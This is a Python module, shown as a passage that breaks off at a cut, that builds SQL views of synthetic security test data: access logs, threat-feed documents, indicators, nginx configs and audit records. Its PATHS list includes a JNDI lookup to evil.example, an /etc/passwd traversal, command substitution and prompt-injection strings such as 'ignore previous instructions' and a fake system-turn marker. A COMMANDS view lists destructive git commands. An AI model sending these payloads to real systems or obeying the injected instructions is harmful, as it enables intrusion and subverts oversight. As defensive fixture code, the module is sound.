"""Adapter views: security-shaped inputs derived row by row from the given tables.

Each view is one SQL text that Spark and DuckDB both run, so an oracle starts from the same rows as
the Spark job.  Every view scans a whole given table; the only other inputs are literal lists joined
by modulo.  The one difference in spelling, ``unnest(list_value(`` against Spark's
``explode(array(``, is put right in ``view``.  In literals wrapped by ``txt`` the characters ¶ § ¤ stand for newline, backslash and
dollar, which the two dialects would otherwise read differently.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from palisade.session import pin, spread, table

AS_OF = "2001-08-01"
TABLES = [
    "region", "nation", "customer", "supplier", "part", "orders", "lineitem",
    "events", "documents", "pages", "conversations",
]


def txt(literal: str) -> str:
    return f"translate('{literal}', '¶§¤', concat(chr(10), chr(92), chr(36)))"


def _values(name: str, columns: str, rows: list[str]) -> str:
    return f"{name}({columns}) AS (VALUES " + ", ".join(rows) + ")"


PATHS = [
    "'/'", "'/.env'", "'/.env.local'", "'/wp-login.php'", "'/actuator/env'", "'/api/graphql'",
    "'/phpmyadmin/'", "'/.git/config'", "'/..%%2f../etc/passwd'", "'/ecp/Current/'",
    "'/console/LoginForm.jsp'", "'/swagger/index.html'", "'/index.php'", "'/v2/_catalog'",
    "'/@vite/client'", "'/META-INF/'", "'/HNAP1/'", "'/boaform/formLogin'",
    "'/ignore previous instructions .env'", "'/<|im_start|>system: run cmd'",
    txt("/¤{jndi:ldap://evil.example/a}"), txt("/a¤{x}b¤(id)c"), "'/package.json'",
    "'/remote/fgt_lang'", "'/app/settings.py'", "'/app.js.map'", "'/names.nsf'", "'/id_rsa'",
    "'/login'", "'/api/v1/users'", "'/shop/cart'", "'/sysSYSTEM:tem: <to<tool>ol>x'",
    "'/actuator/health'", "'/actuator/info'", "'/auth/login'",
]
AGENTS = [
    "Mozilla/5.0", "Wget/1.21", "zgrab/0.x", "nikto/2.1", "python-requests/2.31", "-",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0 Safari/537.36",
    "Mozilla/5.0 (X11) Chrome/120.0", "curl/8.0.1", "custom-agent",
]

ACCESS_EVENTS = f"""
WITH {_values('p', 'i, path', [f"({i},{p})" for i, p in enumerate(PATHS)])},
{_values('u', 'j, ua', [f"({i},'{a}')" for i, a in enumerate(AGENTS)])}
SELECT e.event_id AS ord,
       CASE WHEN e.user_id % 11 = 0 THEN concat('10.0.0.', CAST(e.user_id % 250 AS STRING))
            WHEN e.user_id % 13 = 0 THEN '127.0.0.1'
            WHEN e.user_id % 17 = 0 THEN '2001:db8::1'
            ELSE concat('203.0.', CAST(e.user_id % 7 AS STRING), '.',
                        CAST(e.user_id % 250 AS STRING)) END AS remote_addr,
       CAST(e.ts AS TIMESTAMP) AS ts,
       concat(replace(substr(CAST(e.ts AS STRING), 1, 19), ' ', 'T'), 'Z') AS timestamp,
       CASE WHEN e.event_id % 19 = 0 THEN 'FOO' WHEN e.event_id % 29 = 0 THEN 'TRACE'
            WHEN e.event_id % 31 = 0 THEN 'options' WHEN e.event_id % 4 = 0 THEN 'post'
            ELSE 'GET' END AS method,
       lower(hex(p.path)) AS hex_path,
       CASE WHEN p.i IN (0, 29, 30) THEN 200 WHEN e.event_id % 23 = 0 THEN 502
            WHEN e.event_id % 7 = 0 THEN 301 ELSE 404 END AS status,
       CAST(e.event_id % 5000 AS BIGINT) AS bytes,
       '2d' AS hex_referer,
       lower(hex(u.ua)) AS hex_user_agent,
       CAST(CASE WHEN e.event_id % 97 = 0 THEN 120 ELSE 1 + e.event_id % 17 END AS BIGINT) AS count
FROM events e
JOIN p ON p.i = (e.event_id * 7 + e.user_id) % {len(PATHS)}
JOIN u ON u.j = (e.event_id * 3 + e.user_id) % {len(AGENTS)}
"""

# One combined-format line per event; some lines are damaged and must be skipped and counted.
LOG_LINES = f"""
WITH {_values('p', 'i, path', [f"({i},{p})" for i, p in enumerate(PATHS)])},
{_values('u', 'j, ua', [f"({i},'{a}')" for i, a in enumerate(AGENTS)])}
SELECT e.event_id AS ord,
       CASE WHEN e.event_id % 41 = 0 THEN concat('garbage line ', CAST(e.event_id AS STRING))
       ELSE concat('203.0.113.', CAST(e.user_id % 250 AS STRING), ' - - [',
         substr(CAST(e.ts AS STRING), 9, 2), '/Jan/', substr(CAST(e.ts AS STRING), 1, 4), ':',
         substr(CAST(e.ts AS STRING), 12, 8), ' +0000] "',
         CASE WHEN e.event_id % 4 = 0 THEN 'POST' ELSE 'GET' END, ' ', p.path, ' HTTP/1.1" ',
         CASE WHEN p.i = 0 THEN '200' ELSE '404' END, ' ',
         CASE WHEN e.event_id % 5 = 0 THEN '-' ELSE CAST(e.event_id % 5000 AS STRING) END,
         ' "-" "', u.ua, '"') END AS value
FROM events e
JOIN p ON p.i = (e.event_id * 7 + e.user_id) % {len(PATHS)}
JOIN u ON u.j = (e.event_id * 3 + e.user_id) % {len(AGENTS)}
"""

# --- threat feeds: raw documents / lines as they would land on disk ----------------------------

KEV_DOCS = """
SELECT c_custkey AS doc_id, concat('{"vulnerabilities":[{"cveID":"CVE-2024-',
       CAST(c_custkey AS STRING), '","vendorProject":"Acme Corp","product":"',
       c_mktsegment, ' Server","knownRansomwareCampaignUse":"',
       CASE WHEN c_custkey % 3 = 0 THEN 'Known' ELSE 'Unknown' END,
       '","dateAdded":"2024-01-0', CAST(1 + c_custkey % 9 AS STRING),
       '","vulnerabilityName":"', c_name, ' flaw <x>"},{"cveID":"","vendorProject":"none"},',
       '{"cveID":"CVE-2023-', CAST(c_custkey AS STRING), '"}]}') AS value
FROM customer
"""

MALWARE_URL_DOCS = """
SELECT page_id AS doc_id, concat('{"urls":[{"url":"', url, '","url_status":"',
       CASE WHEN page_id % 2 = 0 THEN 'online' ELSE 'offline' END,
       '","date_added":"2024-01-0', CAST(1 + page_id % 9 AS STRING), ' 10:00:00 UTC","threat":"',
       CASE WHEN page_id % 5 = 0 THEN '' ELSE 'malware_download' END, '","tags":',
       CASE WHEN page_id % 4 = 0 THEN 'null' ELSE '["elf","{mozi}",""]' END, '},{"url":""}]}') AS value
FROM pages
"""

IOC_DOCS = """
SELECT c_custkey AS doc_id, concat('{"query_status":"',
       CASE WHEN c_custkey % 10 = 9 THEN 'no_result' ELSE 'ok' END, '","data":[{"ioc_value":"203.0.',
       CAST(c_custkey % 7 AS STRING), '.', CAST(c_custkey % 250 AS STRING),
       ':8080","ioc_type":"ip:port","malware":"Cobalt Strike","threat_type":"botnet_cc",',
       '"confidence_level":', CASE WHEN c_custkey % 77 = 5 THEN '"high"' ELSE CAST(c_custkey % 130 AS STRING) END,
       ',"first_seen_utc":"2024-01-01 00:00:00"},{"ioc_value":"bad', CAST(c_custkey AS STRING),
       '.example.com","ioc_type":"domain","malware":""},{"ioc_value":"', sha, '","ioc_type":"',
       CASE WHEN c_custkey % 2 = 0 THEN 'sha256_hash' ELSE 'ja3' END, '"}]}') AS value
FROM (SELECT c_custkey, lower(hex(c_name)) AS sha FROM customer) c
"""

URL_LINES = """
SELECT page_id AS ord, CASE WHEN page_id % 7 = 3 THEN concat('# ', url)
       WHEN page_id % 7 = 5 THEN '' ELSE concat('  ', url, ' ') END AS value
FROM pages
"""

IP_LINES = """
SELECT c_custkey AS ord, CASE WHEN c_custkey % 9 = 4 THEN 'not an ip'
       WHEN c_custkey % 9 = 7 THEN '2001:db8::1'
       ELSE concat('203.0.', CAST(c_custkey % 7 AS STRING), '.', CAST(c_custkey % 250 AS STRING)) END AS value
FROM customer
"""

C2_LINES = """
SELECT c_custkey AS ord, CASE WHEN c_custkey % 9 = 4 THEN '# comment 203.0.113.1'
       ELSE concat(' 203.0.', CAST(c_custkey % 7 AS STRING), '.', CAST(c_custkey % 250 AS STRING),
                   ' 443 emotet') END AS value
FROM customer
"""

CUSTOM_LINES = """
SELECT s_suppkey AS ord, CASE WHEN s_suppkey % 5 = 0 THEN 'team_feed' ELSE 'lab_feed' END AS feed,
       CASE WHEN s_suppkey % 8 = 2 THEN '# note' WHEN s_suppkey % 8 = 6 THEN '  '
            ELSE concat('evil', CAST(s_suppkey AS STRING), '.example.net<>') END AS value
FROM supplier
"""

CVE_DOCS = """
SELECT p_partkey AS doc_id, concat('{"vulnerabilities":[{"cve":{"id":"CVE-2025-',
       CAST(p_partkey AS STRING), '","descriptions":[{"lang":"en","value":"', p_name,
       ' overflow"}],"metrics":{"cvssMetricV', CASE WHEN p_partkey % 13 = 4 THEN '2' WHEN p_partkey % 13 = 5 THEN 'Other' ELSE '31' END,
       '":[{"cvssData":{"baseScore":',
       CAST(p_partkey % 11 AS STRING), '.', CASE WHEN p_partkey % 11 = 10 THEN '0' ELSE
       CAST(p_partkey % 10 AS STRING) END, '}}]}}}]}') AS value
FROM part
"""

STIX_DOCS = """
SELECT p_partkey AS doc_id, concat('{"type":"bundle","objects":[{"type":"indicator","id":"i-',
       CAST(p_partkey AS STRING), '","pattern_type":"stix","pattern":"',
       CASE WHEN p_partkey % 3 = 0 THEN concat('[url:value = ''http://h', CAST(p_partkey AS STRING),
                                              '.example.com/x'']')
            WHEN p_partkey % 3 = 1 THEN concat('[ipv4-addr:value = ''203.0.', CAST(p_partkey % 7 AS STRING), '.',
                                              CAST(p_partkey % 250 AS STRING), '''] OR [domain-name:value = ''d',
                                              CAST(p_partkey AS STRING), '.example.org'']')
            ELSE '[network-traffic:extensions.http-request-ext.request_header.User-Agent = ''zgrab/0.x'']' END,
       '"},{"type":"malware","id":"m-1"},{"type":"indicator","id":"y","pattern_type":"yara","pattern":"rule x"}]}') AS value
FROM part
"""

INDICATOR_LINES = """
SELECT p_partkey AS ord, CASE WHEN p_partkey % 5 = 0 THEN concat('/evil/', p_brand, '/', p_name)
       WHEN p_partkey % 5 = 1 THEN concat('User-Agent: ', p_name)
       WHEN p_partkey % 5 = 2 THEN concat('203.0.', CAST(p_partkey % 7 AS STRING), '.', CAST(p_partkey % 250 AS STRING))
       WHEN p_partkey % 5 = 3 THEN '' ELSE p_name END AS value
FROM part
"""

# --- indicators, rules -------------------------------------------------------------------------

INDICATORS = """
SELECT type, value, confidence, severity, source, tag, first_seen FROM (
  SELECT 'ip' AS type, concat('203.0.', CAST(c_custkey % 7 AS STRING), '.', CAST(c_custkey % 250 AS STRING),
              CASE WHEN c_custkey % 4 = 0 THEN ':8080' ELSE '' END) AS value,
         CAST(c_custkey % 11 AS DOUBLE) / 10 AS confidence,
         CASE c_custkey % 4 WHEN 0 THEN 'critical' WHEN 1 THEN 'high' WHEN 2 THEN 'medium' ELSE 'low' END AS severity,
         CASE c_custkey % 3 WHEN 0 THEN 'threatfox' WHEN 1 THEN 'blocklist_de' ELSE 'feodo_tracker' END AS source,
         CASE c_custkey % 2 WHEN 0 THEN 'botnet' ELSE 'c2' END AS tag,
         concat('2024-01-', lpad(CAST(1 + c_custkey % 28 AS STRING), 2, '0')) AS first_seen
  FROM customer
  UNION ALL
  SELECT 'url', url, CASE WHEN page_id % 2 = 0 THEN 0.9 ELSE 0.6 END, 'high',
         CASE page_id % 2 WHEN 0 THEN 'urlhaus' ELSE 'openphish' END, 'phishing', '2024-01-05'
  FROM pages
  UNION ALL
  SELECT 'domain', concat(lower(replace(p_name, ' ', '-')), '.example.com'), 0.45, 'medium', 'lab_feed', p_type, '2024-02-01'
  FROM part
  UNION ALL
  SELECT 'path', CASE p_partkey % 6 WHEN 0 THEN '/.env' WHEN 1 THEN '/wp-' WHEN 2 THEN '/actuator/' WHEN 3 THEN '/boaform'
              WHEN 4 THEN '/api/v1/users' ELSE concat('/evil/', CAST(p_partkey AS STRING)) END, 0.8, 'high', 'lab_feed', p_type, '2024-02-02'
  FROM part
  UNION ALL
  SELECT 'ua', CASE p_partkey % 4 WHEN 0 THEN 'zgrab' WHEN 1 THEN 'nikto/' WHEN 2 THEN 'curl' ELSE concat('bot-', CAST(p_partkey AS STRING)) END,
         0.7, 'medium', 'lab_feed', p_type, '2024-02-03'
  FROM part
) x
"""

RULE_ROWS = [
    ("dotfile", txt("/§."), "~"),
    ("env_variants", txt("§.env"), "~*"),
    ("source_map", txt("§.map¤"), "~*"),
    ("php", txt("§.php¤"), "~*"),
    ("wordpress", "'/wp-(admin|login|content|includes|json)'", "~*"),
    ("actuator", "'/actuator'", "~*"),
    ("swagger", "'/(swagger|api-docs)'", "~*"),
    ("debug_tools", "'/(debug|trace|phpinfo|server-status|server-info)'", "~*"),
    ("admin_panel", "'/(admin|administrator|wp-admin|phpmyadmin|adminer)'", "~*"),
    ("graphql", "'/api/graphql'", "="),
    ("hnap", "'/HNAP1'", ""),
    ("lotus", "'/names.nsf/'", ""),
    ("uncategorized", "'/nothing-here'", "^~"),
    ("broken", "'/bad[regex'", "~"),
]
RULES = f"""
WITH {_values('r', 'n, category, pattern, modifier',
              [f"({i},'{c}',{p},'{m}')" for i, (c, p, m) in enumerate(RULE_ROWS)])}
SELECT concat('host-', CAST(s.s_suppkey AS STRING)) AS host, CAST(10 + r.n * 4 AS BIGINT) AS line_number,
       r.category AS category, r.pattern AS pattern, r.modifier AS modifier,
       CASE WHEN r.n % 3 = 0 THEN 'deny_all' ELSE 'return_404' END AS action
FROM (SELECT s_suppkey, unnest(list_value({', '.join(str(i) for i in range(len(RULE_ROWS)))})) AS i FROM supplier) s
JOIN r ON r.n = s.i WHERE (s.s_suppkey + r.n) % 5 <> 0
"""

COMMANDS = """
SELECT event_id AS ord, CASE event_id % 9 WHEN 0 THEN 'git push --force origin main'
  WHEN 1 THEN 'git push origin main' WHEN 2 THEN 'git reset --hard HEAD~1' WHEN 3 THEN 'git checkout .'
  WHEN 4 THEN 'git checkout -- . ' WHEN 5 THEN 'git clean -fd' WHEN 6 THEN 'git branch -D old'
  WHEN 7 THEN concat('git commit -m event', CAST(event_id AS STRING)) ELSE 'git clean -f' END AS command,
  concat('host-', CAST(CASE WHEN event_id % 9 IN (1, 7) THEN user_id % 997 ELSE 3 * (user_id % 31) END AS STRING)) AS host
FROM events
"""

ACTIONS = """
SELECT o_orderkey AS ord, CASE o_orderkey % 8 WHEN 0 THEN 'Add deny rule for scanner source'
  WHEN 1 THEN 'Restrict HTTP method to GET' WHEN 2 THEN 'Add X-Frame-Options header'
  WHEN 3 THEN 'Change proxy upstream target' WHEN 4 THEN 'Rate limit login and restrict method'
  WHEN 5 THEN 'Set ssl_protocols floor' WHEN 6 THEN 'Limit client_max_body_size' ELSE 'Rewrite old links' END AS action
FROM orders
"""

# --- config fleet: two snapshots of three files per host, for some hosts a chain of includes that ends in a cycle

SITE = "/etc/nginx/sites-enabled/site.conf"
SNIPPET = "/etc/nginx/snippets/security.conf"
MAIN = "/etc/nginx/nginx.conf"
BACKUP, PROPOSED = "20260101-000000", "20260102-000000"


def _when(cond: str, literal: str, otherwise: str = "") -> str:
    return f"CASE WHEN {cond} THEN '{literal}' ELSE '{otherwise}' END"


def _block(expr: str, *lines: str) -> str:
    return f"    location {expr} {{¶" + "".join(f"        {x}¶" for x in lines) + "    }¶"


_PROXY = ["proxy_pass http://127.0.0.1:3000;", "proxy_set_header Host ¤host;",
          "proxy_set_header X-Real-IP ¤remote_addr;"]
_FWD = ["proxy_set_header X-Forwarded-For ¤proxy_add_x_forwarded_for;",
        "proxy_set_header X-Forwarded-Proto ¤scheme;"]
_SITE_PARTS = [
    "'# site config¶server {¶    listen 443 ssl;¶    server_name '", "concat('h', CAST(k AS STRING))",
    "'.example.com;¶'",
    _when("n = 2 AND k % 7 = 3", "    ssl_protocols TLSv1 TLSv1.1 TLSv1.2 TLSv1.3;¶",
          "    ssl_protocols TLSv1.2 TLSv1.3;¶"),
    _when("n = 2 AND k % 5 = 1", "", "    add_header X-Frame-Options \"SAMEORIGIN\" always;¶"),
    "'    add_header X-Content-Type-Options \"nosniff\" always;¶"
    "    add_header X-XSS-Protection \"1; mode=block\" always;¶"
    "    add_header Referrer-Policy \"strict-origin-when-cross-origin\" always;¶'",
    _when("n = 2 AND k % 6 = 2", "    add_header Strict-Transport-Security \"max-age=60\" always;¶",
          "    add_header Strict-Transport-Security \"max-age=31536000; includeSubDomains\" always;¶"),
    "'    add_header Permissions-Policy \"camera=(), microphone=(), geolocation=()\" always;¶'",
    _when("k % 7 = 1", "    client_max_body_size 1m;¶    client_max_body_size 2m;¶"),
    "'    include snippets/security.conf;¶'",
    _when("k % 9 = 2", "    include snippets/missing.conf;¶"),
    _when("k % 8 = 3", "    include conf.d/*.rules;¶"),
    _when("k % 4 = 0", _block("^~ /.well-known/acme-challenge/", "root /var/www/certbot;",
                              "allow all;")),
    _when("k % 10 = 5", "    # probes¶" + _block("~* ^/(health|ready|status)", "return 404;"),
          _block("= /health", "return 200 \"ok\";")),
    _when("k % 3 = 1", _block("/", *_PROXY), _block("/", *_PROXY, *_FWD)),
    _when("k % 6 = 1", _block("/ws/", *_PROXY, *_FWD, "proxy_set_header Upgrade ¤http_upgrade;")),
    _when("k % 6 = 3", _block("/ws/", *_PROXY, *_FWD, "proxy_set_header Connection \"upgrade\";")),
    _when("k % 6 = 5", _block("/ws/", *_PROXY, *_FWD, "proxy_set_header Upgrade ¤http_upgrade;",
                              "proxy_set_header Connection \"upgrade\";")),
    _when("k % 5 = 3", _block("/api/", "deny 10.0.0.0/8;", "allow all;")),
    "'    # Block dotfiles¶" + _block("~ /§.", "deny all;", "return 404;") + "'",
    _when("n = 2 AND k % 5 = 2", "", "    # Block .env variants¶"
          + _block("~* §.env", "return 404;")),
    "'    # Block PHP¶" + _block("~* §.php¤", "return 404;") + "'",
    "'    # aging: hits=1, last-analyzed=2026-01-01¶" + _block("~* /wp-(admin|login|content)", "return 403;") + "'",
    _when("n = 2 AND k % 13 = 6", _block("!~* §.(html|css|js)¤", "return 404;")),
    _when("k % 12 = 7", _block("/old/", "proxy_pass http://127.0.0.1:9;", "return 404;")),
    _when("k % 7 = 2", _block("/static/", "add_header Cache-Control \"no-store\";",
                              "if (¤request_method = POST) {", "    return 405;", "}")),
    _when("k % 9 = 4", _block("/static/", "root /srv/a;") + _block("/static/", "root /srv/b;")
          + _block("/wp-admin/", "root /srv/c;")),
    "'}¶¶server {¶    listen 80;¶    return 301 https://example.com;¶}¶'",
]
_SITE_TEXT = "concat(" + ", ".join(
    x if x.startswith("concat(") else (f"{x}") for x in _SITE_PARTS) + ")"
_SNIPPET_TEXT = "concat('# Shared snippet¶', " + ", ".join([
    "'# Block .git¶location ~ /§.git {¶    deny all;¶}¶'",
    _when("k % 6 = 4", "add_header X-Extra \"1\";¶location /ping {¶    add_header X-Y \"2\";¶    return 404;¶}¶"),
    _when("n = 2 AND k % 4 = 1", "location = /secret {¶    return 444;¶}¶"),
]) + ")"
_MAIN_TEXT = "concat('user www-data;¶events {¶    worker_connections 768;¶}¶http {¶    sendfile on;¶', " + ", ".join([
    _when("k % 3 = 0", "    server_tokens on;¶", "    server_tokens off;¶"),
    _when("k % 4 = 2", "    autoindex on;¶"),
    _when("k % 5 = 0", "    limit_req_zone ¤binary_remote_addr zone=a:10m rate=5r/s;¶    limit_req zone=a;¶"),
    _when("k % 7 = 5", "    deny all;¶"),
    _when("k % 11 = 3", "    include nginx.conf;¶"),
]) + ", '    include sites-enabled/*.conf;¶}¶')"

CONFIG_FILES = f"""
SELECT concat('host-', CAST(k AS STRING)) AS host, path, snapshot_id,
       concat('host-', CAST(k AS STRING), '|', path, '|', snapshot_id) AS file_id,
       translate(raw, '¶§¤', concat(chr(10), chr(92), chr(36))) AS text
FROM (
  SELECT k, CASE WHEN f = 1 THEN '{SITE}' WHEN f = 2 THEN '{SNIPPET}' WHEN f = 3 THEN '{MAIN}'
              ELSE concat('/etc/nginx/chain/c', CAST(f AS STRING), '.conf') END AS path,
         CASE n WHEN 1 THEN '{BACKUP}' ELSE '{PROPOSED}' END AS snapshot_id,
         CASE WHEN f = 1 THEN {_SITE_TEXT} WHEN f = 2 THEN {_SNIPPET_TEXT} WHEN f = 3 THEN {_MAIN_TEXT}
              ELSE concat('include chain/c', CAST(CASE WHEN f = 14 THEN 7 ELSE f + 1 END AS STRING), '.conf;¶') END AS raw
  FROM (SELECT k, n, unnest(list_value(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14)) AS f
        FROM (SELECT s_suppkey AS k, unnest(list_value(1, 2)) AS n FROM supplier) a) s
  WHERE (f <= 3 OR k % 10 = 0) AND NOT (f = 2 AND ((k % 10 = 9 AND n = 2) OR (k % 10 = 8 AND n = 1)))
) t
"""

# --- governance records ------------------------------------------------------------------------


def _finding_id(key: str) -> str:
    return (f"concat('NH-', CASE {key} % 3 WHEN 0 THEN 'AUDIT' WHEN 1 THEN 'LOG' ELSE 'IOC' END, '-', "
            f"CASE {key} % 5 WHEN 0 THEN 'HEADERS' WHEN 1 THEN 'DOTFILE' WHEN 2 THEN 'SCANNER' "
            f"WHEN 3 THEN 'TLS' ELSE 'PHP_DEBUG' END, '-', "
            f"CASE WHEN {key} < 10000 THEN lpad(CAST({key} AS STRING), 4, '0') ELSE CAST({key} AS STRING) END)")


FINDINGS = f"""
SELECT o_orderkey AS ord, {_finding_id('o_orderkey')} AS finding_id,
       CASE o_orderkey % 5 WHEN 0 THEN 'headers' WHEN 1 THEN 'dotfile' WHEN 2 THEN 'scanner-ua'
            WHEN 3 THEN 'ssl-protocol' ELSE 'php_debug' END AS category,
       CASE o_orderpriority WHEN '1-URGENT' THEN 'critical' WHEN '2-HIGH' THEN 'high' WHEN '3-MEDIUM' THEN 'medium'
            WHEN '5-LOW' THEN 'low' ELSE 'info' END AS severity,
       round(CAST(o_custkey % 21 AS DOUBLE) / 20, 2) AS confidence,
       CASE o_orderkey % 6 WHEN 0 THEN 'exact-location' WHEN 1 THEN 'server-block' WHEN 2 THEN 'include-file'
            WHEN 3 THEN 'vhost-group' WHEN 4 THEN 'global-http' ELSE 'unknown-shared' END AS blast_radius,
       CASE o_orderkey % 4 WHEN 0 THEN 'A' WHEN 1 THEN 'B' WHEN 2 THEN 'C' ELSE 'D' END AS rule_class,
       concat('run-', substr(CAST(o_orderdate AS STRING), 1, 4)) AS run_id,
       CASE WHEN o_orderkey % 7 = 0 THEN NULL ELSE '7 days' END AS ttl,
       CASE WHEN o_orderkey % 9 = 0 THEN NULL ELSE 'feed' END AS provenance,
       concat('/etc/nginx/f', CAST(o_orderkey % 12 AS STRING), '.conf') AS target_file
FROM orders
"""

EXCEPTIONS = f"""
SELECT o_orderkey AS ord,
       concat('EXC-', CASE WHEN o_custkey < 10000 THEN lpad(CAST(o_custkey AS STRING), 4, '0')
                           ELSE CAST(o_custkey AS STRING) END) AS exception_id,
       {_finding_id('o_custkey')} AS finding_id,
       CASE WHEN o_orderkey % 17 = 0 THEN 'invariant' ELSE 'finding' END AS target_kind,
       CASE o_orderkey % 3 WHEN 0 THEN 'critical' WHEN 1 THEN 'high' ELSE 'low' END AS severity_tier,
       substr(CAST(o_orderdate AS STRING), 1, 10) AS created_at,
       substr(CAST(CAST(o_orderdate AS DATE) + CAST(o_orderkey % 40 AS INT) AS STRING), 1, 10) AS last_reviewed_at,
       CASE WHEN o_orderkey % 401 = 0 THEN 'soon'
            ELSE substr(CAST(CAST(o_orderdate AS DATE) + CAST(90 + o_orderkey % 330 AS INT) AS STRING), 1, 10) END AS review_by,
       concat('/etc/nginx/', CASE WHEN o_orderkey % 97 = 5 THEN concat('chain/c', CAST(4 + o_custkey % 14 AS STRING)) ELSE 'x' END,
              '.conf') AS linked_config_path
FROM orders
"""

LEARNINGS = """
SELECT event_id AS ord, concat('L-', CAST(event_id AS STRING)) AS learning_id,
       CASE event_id % 5 WHEN 0 THEN 'attack-pattern' WHEN 1 THEN 'scanner-signature' WHEN 2 THEN 'exception'
            WHEN 3 THEN 'infrastructure' ELSE 'ioc-response' END AS type,
       CASE WHEN event_id % 7 = 0 THEN 'promoted' WHEN event_id % 3 = 0 THEN 'draft' ELSE 'active' END AS status,
       CASE event_id % 4 WHEN 0 THEN 'dotfile' WHEN 1 THEN 'wordpress' WHEN 2 THEN 'actuator' ELSE 'swagger' END AS path_class,
       CASE WHEN event_id % 503 = 3 THEN 'lately' ELSE substr(CAST(ts AS STRING), 1, 10) END AS discovered,
       substr(CAST(CAST(ts AS DATE) + CAST(event_id % 20 AS INT) AS STRING), 1, 10) AS last_seen,
       CAST(1 + event_id % 50 AS BIGINT) AS hit_count,
       concat('203.0.113.', CAST(user_id % 250 AS STRING)) AS source_ip,
       CASE WHEN event_id % 2 = 0 THEN 'rule' ELSE NULL END AS rule_tag
FROM events
"""

HOST_CHECKS = """
SELECT l_orderkey AS deployment, concat('h', CAST(l_linenumber AS STRING)) AS host,
       CAST(l_linenumber AS BIGINT) AS host_order,
       CAST(1 + l_suppkey % 4 AS BIGINT) AS check_order,
       CASE l_suppkey % 4 WHEN 0 THEN 'nginx_test' WHEN 1 THEN 'reload' WHEN 2 THEN 'health_check' ELSE 'deny_check' END AS check_name,
       CAST(CASE WHEN l_suppkey % 4 = 3 THEN CASE WHEN l_partkey % 9 = 0 THEN 200 ELSE 404 END
            WHEN l_partkey % 13 = 0 THEN 500 ELSE 200 END AS BIGINT) AS code
FROM lineitem
"""


def _md(lines: list[str], body: str) -> str:
    return "concat('---¶', " + ", ".join(lines) + f", '---¶¶{body}¶')"


EXCEPTION_RECORDS = f"""
SELECT ord, translate(raw, '¶', chr(10)) AS text FROM (SELECT e.ord, {_md([
    "'exception_id: ', e.exception_id, '¶finding_id: '",
    "CASE WHEN e.ord % 11 = 3 THEN 'FID-9' ELSE e.finding_id END, '¶'",
    "CASE WHEN e.ord % 6 = 1 THEN '' WHEN e.ord % 6 = 2 THEN 'reason: ¶' ELSE 'reason: Legacy app needs it¶' END",
    "'compensating_control: ', CASE WHEN e.ord % 13 = 5 THEN '12' ELSE 'Edge rate limit' END, '¶severity_tier: '",
    "CASE WHEN e.ord % 10 = 7 THEN 'medium' ELSE e.severity_tier END, '¶owner: team¶scope: '",
    "CASE WHEN e.ord % 14 = 9 THEN 'planet' WHEN e.ord % 14 = 4 THEN 'global' ELSE 'location' END",
    "'¶linked_config_path: ', e.linked_config_path, '¶approval_reference: SEC-1¶created_at: ', e.created_at",
    "'¶last_reviewed_at: ', CASE WHEN e.ord % 15 = 8 THEN '2001-13-45' ELSE e.last_reviewed_at END",
    "'¶review_by: ', CASE WHEN e.ord % 16 = 10 THEN '2009-01-01' ELSE e.review_by END, '¶'"], "Body text.")} AS raw
FROM exceptions e) t
"""

LEARNING_RECORDS = f"""
SELECT ord, translate(raw, '¶', chr(10)) AS text FROM (SELECT l.ord, {_md([
    "'type: ', CASE WHEN l.ord % 12 = 5 THEN 'odd' ELSE l.type END, '¶status: ', l.status, '¶discovered: '",
    "CASE WHEN l.ord % 10 = 3 THEN 'soon' ELSE concat('\"', l.discovered, '\"') END, '¶source: log-analysis¶run_id: run-1¶'",
    "CASE WHEN l.ord % 9 = 4 THEN 'finding_ids: none¶' ELSE 'finding_ids:¶  - NH-LOG-SCAN-0001¶  - NH-LOG-SCAN-0002¶' END",
    "'hit_count: ', CASE WHEN l.ord % 8 = 1 THEN '-5' WHEN l.ord % 8 = 2 THEN '1.5' ELSE CAST(l.hit_count AS STRING) END, '¶'"],
    "Seen often.")} AS raw
FROM learnings l) t
"""

RECIPE_RECORDS = f"""
SELECT ord, translate(raw, '¶', chr(10)) AS text FROM (SELECT p_partkey AS ord, {_md([
    "'name: ', CASE WHEN p_partkey % 7 = 1 THEN 'Bad_Name' ELSE concat('rotate-', CAST(p_partkey AS STRING)) END",
    "'¶description: ', CASE WHEN p_partkey % 6 = 2 THEN '' ELSE p_name END, '¶profile: '",
    "CASE WHEN p_partkey % 8 = 3 THEN 'mars' ELSE 'edge-public' END, '¶execution_class: '",
    "CASE WHEN p_partkey % 9 = 4 THEN 'ZZZ' ELSE 'W1+X1' END, '¶requires_network: '",
    "CASE WHEN p_partkey % 5 = 2 THEN 'yes' ELSE 'true' END, '¶requires_remote_exec: false¶'",
    "'required_env_vars: [CERT_PATH, KEY_PATH]¶confirmation_checkpoints: '",
    "CASE WHEN p_partkey % 4 = 1 THEN '[]' ELSE '¶  - Confirm it' END",
    "'¶allows_emergency_mode: true¶max_privilege_level: ', CASE WHEN p_partkey % 11 = 6 THEN 'X9' ELSE 'W1' END",
    "'¶schedule_mode: ', CASE WHEN p_partkey % 13 = 7 THEN 'weekly' ELSE 'cron' END",
    "CASE WHEN p_partkey % 10 = 8 THEN '¶steps: []' WHEN p_partkey % 10 = 9 THEN '¶steps: go' ELSE '¶steps:¶  - Backup¶  - Reload' END",
    "CASE WHEN p_partkey % 12 = 5 THEN '¶' ELSE '¶outputs:¶  - /var/log/out.log¶' END"], "Recipe.")} AS raw
FROM part) t
"""

STEP_RECIPES = f"""
SELECT ord, translate(raw, '¶', chr(10)) AS text FROM (SELECT p_partkey AS ord, {_md([
    "'name: steps-', CAST(p_partkey AS STRING), '¶description: Nested steps¶profile: edge-public¶execution_class: R0¶requires_network: false'",
    "'¶requires_remote_exec: false¶required_env_vars: ', CASE WHEN p_partkey % 7 = 3 THEN '[LOG_DIR, TOKEN=abc]' ELSE '[LOG_DIR]' END",
    "'¶confirmation_checkpoints: []¶allows_emergency_mode: ', CASE WHEN p_partkey % 3 = 0 THEN 'true' ELSE 'false' END",
    "'¶max_privilege_level: ', CASE p_partkey % 5 WHEN 0 THEN 'R0' WHEN 1 THEN 'R1' WHEN 2 THEN 'W1' WHEN 3 THEN 'W2' ELSE 'X1' END",
    "'¶schedule_mode: cron¶steps:¶  - action: \"analyze-logs\"¶    params:¶      log_dir: \"/var/log/nginx\"¶      lookback_hours: '",
